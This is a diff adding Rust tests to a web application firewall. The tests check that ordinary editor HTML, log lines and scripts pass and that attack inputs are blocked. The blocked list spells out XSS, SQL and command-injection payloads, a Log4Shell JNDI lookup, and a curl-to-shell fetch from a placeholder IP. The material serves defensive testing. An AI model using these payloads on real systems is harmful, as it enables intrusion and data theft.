@@ -733,3 +733,70 @@ fn attacks_dressed_as_prose_keep_their_weight() {
     );
     assert!(!o.blocked, "{o:?}");
 }
+
+#[test]
+fn holdout4_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    for body in [
+        // Editor HTML: alignment, font sizes, table borders, colour functions in a style.
+        r##"{"content": "<p style=\"text-align: center;\"><span style=\"color: #e03e2d; font-size: 18pt;\">Closed</span></p><table border=\"1\" style=\"border-collapse: collapse; width: 100%;\"><tr><td>Mon</td></tr></table>"}"##,
+        r##"{"html": "<div dir=\"ltr\">Hi,<br><blockquote style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">Wed?</blockquote></div>"}"##,
+        // A `--` held in a string, a file pattern, a regular expression's class.
+        r##"{"command": "[\"npm\", \"run\", \"dev\", \"--\", \"--host\", \"0.0.0.0\"]"}"##,
+        r##"{"glob": "[*.{js,ts,json}]"}"##,
+        r##"{"regex": "(?i)authorization:\\s*bearer\\s+[a-z0-9._~+/-]+=*"}"##,
+        // ICU plural with `#`; a Java log line naming an exception.
+        r##"{"msg": "{count, plural, one {# article} other {# articles}}"}"##,
+        r##"{"msg": "<-- HTTP FAILED: java.net.SocketTimeoutException: timeout"}"##,
+        r##"{"trace": "java.lang.IllegalStateException: not attached\n\tat androidx.fragment.app.Fragment.requireContext(Fragment.java:972)"}"##,
+        // An address in angle brackets; an arrow in a note; LaTeX; a PowerShell script that sets
+        // variables first.
+        r##"{"html": "<div dir=\"ltr\">On Mon Tom &lt;tom@example.net&gt; wrote:<br></div>"}"##,
+        r##"{"note": "Customer asked: \"can you ship to P.O. Box 1234?\" -> yes, via USPS only"}"##,
+        r##"{"source": "The posterior is $p(\\theta \\mid x)$ for $n > 30$."}"##,
+        r##"{"body": "Hi, the installer stops with 'Access is denied'. I also checked %APPDATA%\\SoftCo\\logs\\install.log and it says it failed to create the cache folder."}"##,
+        r##"{"content": "$src = 'C:\\Users\\jdoe'\n$dst = \"D:\\Backups\\$(Get-Date -Format yyyy-MM-dd)\"\nNew-Item -ItemType Directory -Path $dst -Force | Out-Null\n"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    for body in [
+        r##"{"content": "<p style=\"background: url(javascript:alert(1))\">x</p>"}"##,
+        r##"{"content": "<p style=\"color: rgb(1,2,3); position: fixed; top: 0\">x</p>"}"##,
+        r##"{"content": "<table border=1 onmouseover=alert(1)><tr><td>x</td></tr></table>"}"##,
+        r##"{"q": "admin\"--"}"##,
+        r##"{"q": "x' --"}"##,
+        r##"{"q": ";{cat,/etc/passwd}"}"##,
+        r##"{"q": "{cat,/etc/passwd}"}"##,
+        r##"{"q": "x; cat ~+/etc/passwd"}"##,
+        r##"{"q": "{# comment #}"}"##,
+        r##"{"q": "java.lang.Runtime.getRuntime().exec('id')"}"##,
+        r##"{"q": "java.io.IOException ${jndi:ldap://203.0.113.9/a}"}"##,
+        r##"{"q": "java.net.URLClassLoader"}"##,
+        r##"{"q": "<a href=x onclick=alert(1)>tom@example.net</a>"}"##,
+        r##"{"q": "x<tom@example.net><img src=x onerror=alert(1)>"}"##,
+        r##"{"q": "1' ->'a'"}"##,
+        r##"{"q": "x\"->>'key' union select 1"}"##,
+        r##"{"q": "$_GET[a]($_GET[b])"}"##,
+        r##"{"q": "$f('id')"}"##,
+        r##"{"content": "$x = 1\n$y = $(curl http://203.0.113.9/a.sh | sh)\n"}"##,
+        r##"{"content": "a=1\ncat /etc/passwd\n"}"##,
+        r##"{"q": "x & %COMSPEC% /c whoami"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(o.blocked, "{body}: {o:?}");
+    }
+    // The TOML content type is allowed and read as text; Python's HTTP client is not a scanner,
+    // the scanner still is.
+    assert!(!post("/api/pyproject", "application/toml", "[tool.poetry]\nname = \"invoicer\"\n", &waf).blocked);
+    let ua = |u: &str| waf.outcome(&waf.inspect_head(&get("/products/1", &[("user-agent", u)]))).blocked;
+    assert!(!ua("python-httpx/0.27.0"));
+    assert!(ua("httpx"));
+    assert!(ua("projectdiscovery httpx v1.6"));
+}
+
+#[test]
+fn java_log_shape() {
+    assert!(context::java_log(b"<-- http failed: java.net.sockettimeoutexception: timeout"));
+    assert!(!context::java_log(b"java.lang.runtime.getruntime().exec('id')"));
+}
